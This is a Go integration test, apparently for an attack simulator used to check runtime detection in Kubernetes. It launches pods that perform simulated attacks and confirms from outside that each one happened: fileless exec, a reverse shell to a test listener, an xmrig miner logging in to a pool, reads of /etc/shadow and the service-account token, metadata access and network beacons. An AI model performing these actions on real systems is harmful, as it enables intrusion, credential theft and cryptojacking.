package main_test

import (
	"bufio"
	"fmt"
	"net"
	"net/http"
	"strings"
	"sync"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	lab "stanch/testenv/kube"
)

// TestAttackActionsAreReal runs each attack in a pod of a real node and observes it from outside.
func TestAttackActionsAreReal(t *testing.T) {
	c := lab.Shared(t)
	if _, err := c.ImportAttack(t.Context()); err != nil {
		t.Fatal(err)
	}
	p := &podFixture{Cluster: c, namespace: c.NewNamespace(t)}
	t.Run("becomes something else", func(t *testing.T) { testExecVariants(t, p) })
	t.Run("a reverse shell obeys its peer", func(t *testing.T) { testReverseShell(t, p) })
	t.Run("a shell on a terminal", func(t *testing.T) { testTerminalShell(t, p) })
	t.Run("a miner logs in at its pool", func(t *testing.T) { testMiner(t, p) })
	t.Run("secrets and metadata", func(t *testing.T) { testSecretAccess(t, p) })
	t.Run("beacons arrive", func(t *testing.T) { testBeacons(t, p) })
	t.Run("a silent peer is told as a failure", func(t *testing.T) { testBeaconFailure(t, p) })
}

type podFixture struct {
	*lab.Cluster
	namespace string
}

// startPod starts a pod with /attack and these arguments, and does not wait until it is ready: some end at once.
func (p *podFixture) startPod(t *testing.T, name string, args ...string) {
	t.Helper()
	pod := lab.NewPod(name, lab.AttackImage, append([]string{"/attack"}, args...)...)
	pod.Spec.RestartPolicy = corev1.RestartPolicyNever
	if _, err := p.Client().CoreV1().Pods(p.namespace).Create(t.Context(), pod, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
}

// waitForLog waits until the pod's log has all of these.
func (p *podFixture) waitForLog(t *testing.T, name string, want ...string) {
	t.Helper()
	lab.Eventually(t, 30*time.Second, "the log of "+name, func() error {
		logs, err := p.Logs(t.Context(), p.namespace, name, "main")
		if err != nil {
			return err
		}
		for _, w := range want {
			if !strings.Contains(logs, w) {
				return fmt.Errorf("no %q in %q", w, logs)
			}
		}
		return nil
	})
}

// execUntilSuccess runs a command in the pod until it succeeds: the pod may still be starting.
func (p *podFixture) execUntilSuccess(t *testing.T, name string, want string, command ...string) {
	t.Helper()
	lab.Eventually(t, 30*time.Second, fmt.Sprintf("%q in %s", command, name), func() error {
		out, err := p.Exec(t.Context(), p.namespace, name, "main", command...)
		if err == nil && !strings.Contains(out, want) {
			err = fmt.Errorf("%q, want %q", out, want)
		}
		return err
	})
}

// listenTCP opens a TCP listener that pods reach.
func (p *podFixture) listenTCP(t *testing.T) net.Listener {
	t.Helper()
	l, err := net.Listen("tcp", p.NodeIP+":0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close() })
	return l
}

func acceptConn(t *testing.T, l net.Listener) net.Conn {
	t.Helper()
	if err := l.(*net.TCPListener).SetDeadline(time.Now().Add(30 * time.Second)); err != nil {
		t.Fatal(err)
	}
	conn, err := l.Accept()
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { conn.Close() })
	if err := conn.SetDeadline(time.Now().Add(30 * time.Second)); err != nil {
		t.Fatal(err)
	}
	return conn
}

func testExecVariants(t *testing.T, p *podFixture) {
	p.startPod(t, "memfd", "memfd")
	p.startPod(t, "deleted", "deleted")
	p.startPod(t, "dropped", "drop", "serve", ":8080")
	p.execUntilSuccess(t, "memfd", "/memfd:payload (deleted)", "readlink", "/proc/1/exe")
	p.execUntilSuccess(t, "deleted", "/tmp/.deleted (deleted)", "readlink", "/proc/1/exe")
	p.execUntilSuccess(t, "dropped", "/tmp/dropped", "readlink", "/proc/1/exe")
	p.execUntilSuccess(t, "dropped", "ok", "wget", "-qO-", "http://127.0.0.1:8080/")
}

func testReverseShell(t *testing.T, p *podFixture) {
	l := p.listenTCP(t)
	p.startPod(t, "revshell", "revshell", l.Addr().String())
	conn := acceptConn(t, l)
	fmt.Fprintln(conn, "for fd in 0 1 2; do readlink /proc/$$/fd/$fd; done; hostname")
	lines := bufio.NewScanner(conn)
	for range 3 {
		if !lines.Scan() || !strings.HasPrefix(lines.Text(), "socket:") {
			t.Errorf("a descriptor of the shell is %q, %v", lines.Text(), lines.Err())
		}
	}
	if !lines.Scan() || lines.Text() != "revshell" {
		t.Errorf("the shell runs on %q", lines.Text())
	}
}

func testTerminalShell(t *testing.T, p *podFixture) {
	p.startPod(t, "shell", "shell", "tty", "echo $((6*7))")
	p.waitForLog(t, "shell", "/dev/pts/0", "42")
}

func testMiner(t *testing.T, p *podFixture) {
	l := p.listenTCP(t)
	p.startPod(t, "mine", "mine", l.Addr().String())
	conn := acceptConn(t, l)
	line, err := bufio.NewReader(conn).ReadString('\n')
	if err != nil || !strings.Contains(line, `"method":"login"`) {
		t.Errorf("the miner said %q, %v", line, err)
	}
	p.execUntilSuccess(t, "mine", "xmrig\x00--url\x00stratum+tcp://"+l.Addr().String(), "cat", "/proc/1/cmdline")
}

func testSecretAccess(t *testing.T, p *podFixture) {
	l := p.listenTCP(t)
	server := &http.Server{
		ReadHeaderTimeout: time.Second,
		Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			fmt.Fprint(w, strings.Repeat("x", len(r.URL.Path)))
		}),
	}
	go func() { _ = server.Serve(l) }()
	p.startPod(t, "token", "token")
	p.startPod(t, "shadow", "shadow")
	p.startPod(t, "metadata", "metadata", l.Addr().String())
	p.waitForLog(t, "token", "bytes of /var/run/secrets/kubernetes.io/serviceaccount/token")
	p.waitForLog(t, "shadow", "bytes of /etc/shadow")
	p.waitForLog(t, "metadata", "200 OK, 43 bytes")
}

// testBeacons listens on the wire of the pods' bridge for every kind.
func testBeacons(t *testing.T, p *podFixture) {
	wire := newFrameCounter(t, p.Bridge)
	l := p.listenTCP(t)
	go func() {
		for {
			conn, err := l.Accept()
			if err != nil {
				return
			}
			go func() { // read, or the sender's window closes
				defer conn.Close()
				_, _ = bufio.NewReader(conn).WriteTo(discard{})
			}()
		}
	}()
	kinds := []string{"tcp", "tcp-new", "udp", "raw", "packet", "icmp"}
	for _, kind := range kinds {
		p.startPod(t, "beacon-"+kind, "beacon", kind, l.Addr().String())
	}
	for _, kind := range kinds {
		lab.Eventually(t, 30*time.Second, "beacon "+kind+" on the wire", func() error {
			if n := wire.count("stanch-beacon " + kind + " "); n < 5 {
				return fmt.Errorf("%d messages", n)
			}
			return nil
		})
	}
}

func testBeaconFailure(t *testing.T, p *podFixture) {
	l := p.listenTCP(t)
	closed := l.Addr().String()
	l.Close()
	p.startPod(t, "refused", "beacon", "tcp", closed)
	p.waitForLog(t, "refused", "beacon tcp 1 fails: ", "refused")
}

type discard struct{}

func (discard) Write(b []byte) (int, error) { return len(b), nil }

// frameCounter counts messages in the frames of an interface.
type frameCounter struct {
	mu            sync.Mutex
	countByPrefix map[string]int
}

func (w *frameCounter) count(prefix string) int {
	w.mu.Lock()
	defer w.mu.Unlock()
	return w.countByPrefix[prefix]
}
